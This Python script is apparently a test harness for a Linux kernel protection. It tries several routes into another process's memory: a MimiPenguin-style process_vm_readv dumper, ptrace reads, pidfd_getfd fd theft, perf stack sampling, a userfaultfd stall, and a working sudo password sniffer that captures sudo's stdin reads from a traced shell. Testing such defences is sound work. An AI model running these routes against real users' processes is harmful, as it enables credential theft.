#!/usr/bin/python3
"""Reach another process's memory without procfs, as credential dumpers do.

Usage: memroutes.py COMMAND ARGS...

  vmdump PID [SECRET]     process_vm_readv(2) every readable region listed
                          in /proc/PID/maps (a MimiPenguin-style dumper);
                          prints "bytes=N found=0|1"
  vmread PID ADDR         process_vm_readv(2) 64 bytes at ADDR (hex)
  vmwrite PID ADDR SECRET process_vm_writev(2) SECRET's first 8 bytes at
                          ADDR (hex), where they already are
  peek PID attach|seize ADDR [SECRET]
                          ptrace-attach (or seize + interrupt), then
                          PTRACE_PEEKDATA 64 words from ADDR (hex);
                          prints "words=N found=0|1"
  peekchild SECRET        fork a child that holds SECRET, attach to it
                          (the everyday debugger case), PEEKDATA it and
                          process_vm_readv it; prints "found=0|1"
  sniff SHELLPID OUTFILE [GOFILE]
                          a sudo password sniffer: attach to a shell with
                          PTRACE_O_TRACEFORK|TRACEEXEC, follow its children,
                          and collect what every sudo read(0, buf, n) got
                          (PEEKDATA of the buffer at syscall exit); writes
                          the captured bytes to OUTFILE when the shell exits;
                          creates GOFILE once attached; once sudo has
                          read its stdin and makes another syscall, it
                          is killed (the password was read: nothing more
                          to sniff)
  cma SECONDS             MPI-like shared-memory transport: fork a peer of
                          the same user and copy from it with
                          process_vm_readv in a loop; prints "calls=N"
  loop vm|ptrace PID      forever: process_vm_readv 4 KiB of PID (vm), or
                          attach to a child of its own, PEEKDATA it and
                          detach (ptrace); sleeps while the file named by
                          $PMG_PAUSE_FILE (default /tmp/pmg-pause) exists
                          (the stress scenarios pause at insmod/rmmod)
  getfd PID [SECRET]      pidfd_getfd(2) the holder's memfd (its fd 77) and
                          read it; prints "found=0|1"
  getfdchild SECRET       fork a child that holds SECRET in a memfd and take
                          it with pidfd_getfd (a seccomp supervisor's
                          everyday case); prints "found=0|1"
  vmstall PID ADDR SECRET OUTFILE
                          process_vm_readv(2) of 128 bytes at ADDR (hex)
                          into two local buffers: an ordinary one, then a
                          page registered with userfaultfd whose fault is
                          never served, so the call blocks after the secret
                          has landed in the first; a second thread finds it
                          there, writes "found=0|1" to OUTFILE and the call
                          stays blocked until the process is killed
  perf PID|wide SECONDS   perf_event_open(2) a cpu-clock sampler of PID (or
                          of every process on CPU 0) that copies each
                          sample's user stack (PERF_SAMPLE_STACK_USER, as
                          perf record --call-graph dwarf), read the ring
                          buffer for SECONDS; prints "samples=N
                          stack_bytes=M" (the target's stack bytes seen)
  holder SECRET ADDRFILE  a process that keeps SECRET in its memory and in a
                          memfd on fd 77, writes the secret's address (hex)
                          to ADDRFILE, and sleeps

Exit status 0 when the route worked, 2 when the kernel refused it (EPERM,
EACCES, EIO), 1 on anything else.
"""
import ctypes
import ctypes.util
import errno
import os
import signal
import struct
import sys
import time

libc = ctypes.CDLL(ctypes.util.find_library("c"), use_errno=True)


class iovec(ctypes.Structure):
    _fields_ = [("iov_base", ctypes.c_void_p), ("iov_len", ctypes.c_size_t)]


libc.process_vm_readv.restype = ctypes.c_ssize_t
libc.process_vm_readv.argtypes = [ctypes.c_int, ctypes.POINTER(iovec),
                                  ctypes.c_ulong, ctypes.POINTER(iovec),
                                  ctypes.c_ulong, ctypes.c_ulong]
libc.process_vm_writev.restype = ctypes.c_ssize_t
libc.process_vm_writev.argtypes = libc.process_vm_readv.argtypes
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p,
                        ctypes.c_void_p]

libc.syscall.restype = ctypes.c_long

NR_PIDFD_GETFD = 438	# the same number in every ABI
HELD_FD = 77		# the holder's memfd of its secret
PTRACE_PEEKDATA, PTRACE_CONT, PTRACE_ATTACH, PTRACE_DETACH = 2, 7, 16, 17
PTRACE_SYSCALL, PTRACE_SETOPTIONS, PTRACE_GETEVENTMSG = 24, 0x4200, 0x4201
PTRACE_SEIZE, PTRACE_INTERRUPT, PTRACE_GETREGS = 0x4206, 0x4207, 12
O_TRACESYSGOOD, O_TRACEFORK, O_TRACEVFORK, O_TRACECLONE, O_TRACEEXEC = 1, 2, 4, 8, 16
REFUSED = (errno.EPERM, errno.EACCES, errno.EIO, errno.ESRCH)


def fail(err, what):
    print(f"{what}: {os.strerror(err)}", file=sys.stderr)
    sys.exit(2 if err in REFUSED else 1)


def regions(pid, want="r"):
    out = []
    with open(f"/proc/{pid}/maps") as maps:
        for line in maps:
            f = line.split()
            lo, hi = (int(x, 16) for x in f[0].split("-"))
            name = f[5] if len(f) > 5 else ""
            if want in f[1] and name not in ("[vvar]", "[vsyscall]"):
                out.append((lo, hi, name))
    return out


def vm_read(pid, addr, size):
    buf = ctypes.create_string_buffer(size)
    local = iovec(ctypes.cast(buf, ctypes.c_void_p), size)
    remote = iovec(addr, size)
    n = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    if n < 0:
        return None, ctypes.get_errno()
    return buf.raw[:n], 0


def vmdump(pid, secret=None):
    total, found = 0, False
    for lo, hi, _ in regions(pid, "rw"):
        data, err = vm_read(pid, lo, hi - lo)
        if data is None:
            if err in REFUSED and err != errno.EIO:
                fail(err, "process_vm_readv")
            continue
        total += len(data)
        found = found or (secret is not None and secret.encode() in data)
    print(f"bytes={total} found={int(found)}")
    return 0


def vmread(pid, addr):
    data, err = vm_read(pid, addr, 64)
    if data is None:
        fail(err, "process_vm_readv")
    print(f"bytes={len(data)}")
    return 0


NR_USERFAULTFD = 323
UFFDIO_API, UFFDIO_REGISTER = 0xc018aa3f, 0xc020aa00
UFFD_API, UFFDIO_REGISTER_MODE_MISSING = 0xAA, 1


def vmstall(pid, addr, secret, outfile):
    """Hold one's own process_vm_readv open after it copied the secret."""
    import fcntl
    import mmap
    import threading
    uffd = libc.syscall(NR_USERFAULTFD, os.O_CLOEXEC | os.O_NONBLOCK)
    if uffd < 0:
        fail(ctypes.get_errno(), "userfaultfd")
    fcntl.ioctl(uffd, UFFDIO_API, struct.pack("QQQ", UFFD_API, 0, 0))
    page = mmap.mmap(-1, mmap.PAGESIZE)
    base = ctypes.addressof(ctypes.c_char.from_buffer(page))
    fcntl.ioctl(uffd, UFFDIO_REGISTER,
                struct.pack("QQQQ", base, mmap.PAGESIZE, UFFDIO_REGISTER_MODE_MISSING, 0))
    first = ctypes.create_string_buffer(64)
    local = (iovec * 2)(iovec(ctypes.cast(first, ctypes.c_void_p), 64), iovec(base, 64))
    remote = iovec(addr, 128)

    def look():
        for _ in range(300):
            if secret.encode() in first.raw:
                break
            time.sleep(0.1)
        with open(outfile, "w") as f:
            f.write(f"found={int(secret.encode() in first.raw)}\n")
    threading.Thread(target=look, daemon=True).start()
    n = libc.process_vm_readv(pid, local, 2, ctypes.byref(remote), 1, 0)
    if n < 0:
        fail(ctypes.get_errno(), "process_vm_readv")
    print(f"bytes={n}")
    return 0


NR_PERF_EVENT_OPEN = 298
PERF_SAMPLE_IP, PERF_SAMPLE_TID, PERF_SAMPLE_STACK_USER = 1, 2, 1 << 13
PERF_RECORD_SAMPLE = 9


def perf(target, seconds):
    """Sample a process's user stack with perf, as a profiler would."""
    import mmap
    pid, cpu = (-1, 0) if target == "wide" else (int(target), -1)
    # struct perf_event_attr, PERF_ATTR_SIZE_VER5 (112 bytes): type
    # PERF_TYPE_SOFTWARE, config PERF_COUNT_SW_CPU_CLOCK, a sample every
    # 100 us of CPU time, exclude_kernel and exclude_hv, an 8 KiB stack copy.
    attr = bytearray(112)
    struct.pack_into("IIQQQQQ", attr, 0, 1, 112, 0, 100000,
                     PERF_SAMPLE_IP | PERF_SAMPLE_TID | PERF_SAMPLE_STACK_USER,
                     0, (1 << 5) | (1 << 6))
    struct.pack_into("I", attr, 88, 8192)
    buf = ctypes.create_string_buffer(bytes(attr), 112)
    fd = libc.syscall(NR_PERF_EVENT_OPEN, buf, pid, cpu, -1, 0)
    if fd < 0:
        fail(ctypes.get_errno(), "perf_event_open")
    pages = 1 + 64
    ring = mmap.mmap(fd, pages * mmap.PAGESIZE, mmap.MAP_SHARED,
                     mmap.PROT_READ | mmap.PROT_WRITE)
    end = time.monotonic() + float(seconds)
    tail = samples = stack = 0
    size = (pages - 1) * mmap.PAGESIZE
    while time.monotonic() < end:
        time.sleep(0.1)
        head = struct.unpack_from("Q", ring, 1024)[0]
        while tail + 8 <= head:
            at = mmap.PAGESIZE + tail % size
            rtype, _, rsize = struct.unpack_from("IHH", ring, at)
            if rsize == 0:
                break
            if rtype == PERF_RECORD_SAMPLE:
                rec = bytes(ring[mmap.PAGESIZE:]) * 2	# a record may wrap
                off = tail % size + 8 + 16	# header, ip, pid/tid
                n = struct.unpack_from("Q", rec, off)[0]
                dyn = struct.unpack_from("Q", rec, off + 8 + n)[0] if n else 0
                samples += 1
                stack += dyn
            tail += rsize
        struct.pack_into("Q", ring, 1032, tail)
    print(f"samples={samples} stack_bytes={stack}")
    return 0


def vmwrite(pid, addr, secret):
    """Write the secret's first 8 bytes where they already are."""
    buf = ctypes.create_string_buffer(secret.encode()[:8], 8)
    local = iovec(ctypes.cast(buf, ctypes.c_void_p), 8)
    remote = iovec(addr, 8)
    n = libc.process_vm_writev(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    if n < 0:
        fail(ctypes.get_errno(), "process_vm_writev")
    print(f"bytes={n}")
    return 0


def ptrace(req, pid, addr=0, data=0):
    ctypes.set_errno(0)
    r = libc.ptrace(req, pid, ctypes.c_void_p(addr), ctypes.c_void_p(data))
    return r, ctypes.get_errno()


def peek_word(pid, addr):
    r, err = ptrace(PTRACE_PEEKDATA, pid, addr)
    if err:
        return None, err
    return struct.pack("<q", r), 0


def peek(pid, how, addr, secret=None):
    if how == "seize":
        r, err = ptrace(PTRACE_SEIZE, pid)
        if r < 0:
            fail(err, "PTRACE_SEIZE")
        ptrace(PTRACE_INTERRUPT, pid)
    else:
        r, err = ptrace(PTRACE_ATTACH, pid)
        if r < 0:
            fail(err, "PTRACE_ATTACH")
    os.waitpid(pid, 0)
    data, err = b"", 0
    for off in range(0, 64 * 8, 8):
        w, err = peek_word(pid, addr + off)
        if w is None:
            break
        data += w
    found = secret is not None and secret.encode() in data
    ptrace(PTRACE_DETACH, pid)
    print(f"words={len(data) // 8} found={int(found)}")
    if not data and err:
        fail(err, "PTRACE_PEEKDATA")
    return 0


def peekchild(secret):
    buf = ctypes.create_string_buffer(secret.encode() * 8)
    child = os.fork()
    if child == 0:
        signal.pause()
        os._exit(0)
    addr = ctypes.addressof(buf)  # same address in the forked child
    r, err = ptrace(PTRACE_ATTACH, child)
    if r < 0:
        os.kill(child, signal.SIGKILL)
        fail(err, "PTRACE_ATTACH")
    os.waitpid(child, 0)
    w, err = peek_word(child, addr)
    data, verr = vm_read(child, addr, 64)
    ptrace(PTRACE_DETACH, child)
    os.kill(child, signal.SIGKILL)
    os.waitpid(child, 0)
    if w is None or data is None:
        fail(err or verr, "PEEKDATA/process_vm_readv")
    print(f"found={int(w == secret.encode()[:8] and secret.encode() in data)}")
    return 0


class user_regs(ctypes.Structure):
    _fields_ = [(n, ctypes.c_ulonglong) for n in (
        "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax "
        "rip cs eflags rsp ss fs_base gs_base ds es fs gs").split()]


def sniff(shell, outfile, gofile=None):
    """Follow SHELL's descendants; at each read(0, ...) exit in a process
    whose comm is sudo, peek the bytes read."""
    r, err = ptrace(PTRACE_ATTACH, shell)
    if r < 0:
        fail(err, "PTRACE_ATTACH")
    os.waitpid(shell, 0)
    ptrace(PTRACE_SETOPTIONS, shell, 0, O_TRACESYSGOOD | O_TRACEFORK |
           O_TRACEVFORK | O_TRACECLONE | O_TRACEEXEC)
    ptrace(PTRACE_SYSCALL, shell)
    if gofile:  # the shell may go on: it is traced, children included
        open(gofile, "w").close()
    captured, in_syscall, denied, seen, regs_denied = b"", {}, 0, {}, 0
    read_by = set()  # sudo processes that read their stdin
    regs = user_regs()
    while True:
        try:
            pid, status = os.waitpid(-1, 0x40000000)  # __WALL
        except ChildProcessError:
            break
        if os.WIFEXITED(status) or os.WIFSIGNALED(status):
            if pid == shell:
                break
            continue
        sig = 0
        if os.WIFSTOPPED(status):
            stop = os.WSTOPSIG(status)
            if stop == (signal.SIGTRAP | 0x80):
                if libc.ptrace(PTRACE_GETREGS, pid, None, ctypes.byref(regs)) < 0:
                    # registers refused (a credential holder): it learns
                    # nothing of this stop, and cannot inject either
                    regs_denied += 1
                    ptrace(PTRACE_SYSCALL, pid, 0, 0)
                    continue
                entering = not in_syscall.get(pid, False)
                in_syscall[pid] = entering
                if entering and pid in read_by and \
                        not (regs.orig_rax == 0 and regs.rdi == 0):
                    # sudo has read its password line and goes on to
                    # check it: the sniffer has what it came for, and
                    # ends sudo there (no PAM failure delay and retry).
                    os.kill(pid, signal.SIGKILL)
                    read_by.discard(pid)
                    continue
                if not entering and regs.orig_rax == 0 and regs.rdi == 0 \
                        and 0 < regs.rax < 4096:
                    with open(f"/proc/{pid}/comm") as f:
                        comm = f.read().strip()
                    seen[comm] = seen.get(comm, 0) + 1
                    if comm == "sudo":
                        read_by.add(pid)
                        for off in range(0, regs.rax, 8):
                            w, err = peek_word(pid, regs.rsi + off)
                            if w is None:
                                denied += 1
                                break
                            captured += w[:min(8, regs.rax - off)]
            elif stop == signal.SIGTRAP:
                pass  # fork/exec/clone events
            elif stop not in (signal.SIGSTOP,):
                sig = stop
        ptrace(PTRACE_SYSCALL, pid, 0, sig)
    with open(outfile, "wb") as f:
        f.write(captured)
    reads = ",".join(f"{c}:{n}" for c, n in sorted(seen.items()))
    print(f"captured={len(captured)} denied={denied} regs-denied={regs_denied} "
          f"stdin-reads={reads}")
    return 0


def cma(seconds):
    size = 64 * 1024
    page = ctypes.create_string_buffer(b"r" * size, size)
    rd, wr = os.pipe()
    peer = os.fork()
    if peer == 0:  # the peer rank: publish the buffer's address, then wait
        os.write(wr, struct.pack("<Q", ctypes.addressof(page)))
        time.sleep(seconds + 30)
        os._exit(0)
    addr = struct.unpack("<Q", os.read(rd, 8))[0]
    calls, end = 0, time.monotonic() + seconds
    while time.monotonic() < end:
        data, err = vm_read(peer, addr, size)
        if data is None:
            os.kill(peer, signal.SIGKILL)
            fail(err, "process_vm_readv")
        calls += 1
    os.kill(peer, signal.SIGKILL)
    os.waitpid(peer, 0)
    print(f"calls={calls}")
    return 0


def loop(route, pid):
    buf = ctypes.create_string_buffer(64)
    if route == "ptrace":
        pid = os.fork()
        if pid == 0:
            libc.prctl(1, signal.SIGKILL, 0, 0, 0)  # PR_SET_PDEATHSIG
            while True:
                time.sleep(1)
        addr = ctypes.addressof(buf)
    else:
        addr = regions(pid)[0][0]
    pause = os.environ.get("PMG_PAUSE_FILE", "/tmp/pmg-pause")
    while True:
        if os.path.exists(pause):
            time.sleep(0.005)
        elif route == "vm":
            vm_read(pid, addr, 4096)
        elif ptrace(PTRACE_ATTACH, pid)[0] == 0:
            os.waitpid(pid, 0)
            peek_word(pid, addr)
            ptrace(PTRACE_DETACH, pid)


def hold_in_memfd(secret):
    fd = os.memfd_create("secret")
    os.write(fd, secret.encode())
    os.dup2(fd, HELD_FD)
    os.close(fd)


def pidfd_getfd(pid):
    """The holder's memfd, taken with pidfd_getfd; (fd or -1, errno)."""
    pidfd = os.pidfd_open(pid)
    try:
        fd = libc.syscall(NR_PIDFD_GETFD, pidfd, HELD_FD, 0)
        return fd, ctypes.get_errno()
    finally:
        os.close(pidfd)


def getfd(pid, secret=None):
    fd, err = pidfd_getfd(pid)
    if fd < 0:
        fail(err, "pidfd_getfd")
    data = os.pread(fd, 4096, 0)
    os.close(fd)
    print(f"found={int(bool(secret) and secret.encode() in data)}")
    return 0


def getfdchild(secret):
    ready_r, ready_w = os.pipe()
    pid = os.fork()
    if pid == 0:
        hold_in_memfd(secret)
        os.write(ready_w, b"x")
        signal.pause()
        os._exit(0)
    os.read(ready_r, 1)
    try:
        return getfd(pid, secret)
    finally:
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)


def holder(secret, addrfile):
    buf = ctypes.create_string_buffer(secret.encode() * 8)
    hold_in_memfd(secret)
    with open(addrfile + ".tmp", "w") as f:
        f.write(f"{ctypes.addressof(buf):x}\n")
    os.rename(addrfile + ".tmp", addrfile)
    signal.pause()
    return len(buf)


def main(argv):
    cmd, args = argv[1], argv[2:]
    if cmd == "vmdump":
        return vmdump(int(args[0]), args[1] if len(args) > 1 else None)
    if cmd == "vmread":
        return vmread(int(args[0]), int(args[1], 16))
    if cmd == "vmwrite":
        return vmwrite(int(args[0]), int(args[1], 16), args[2])
    if cmd == "peek":
        return peek(int(args[0]), args[1], int(args[2], 16),
                    args[3] if len(args) > 3 else None)
    if cmd == "peekchild":
        return peekchild(args[0])
    if cmd == "sniff":
        return sniff(int(args[0]), args[1], args[2] if len(args) > 2 else None)
    if cmd == "cma":
        return cma(float(args[0]))
    if cmd == "loop":
        return loop(args[0], int(args[1]))
    if cmd == "getfd":
        return getfd(int(args[0]), args[1] if len(args) > 1 else None)
    if cmd == "getfdchild":
        return getfdchild(args[0])
    if cmd == "perf":
        return perf(argv[2], argv[3])
    if cmd == "vmstall":
        return vmstall(int(argv[2]), int(argv[3], 16), argv[4], argv[5])
    if cmd == "holder":
        return holder(args[0], args[1])
    print(__doc__, file=sys.stderr)
    return 1


if __name__ == "__main__":
    sys.exit(main(sys.argv))
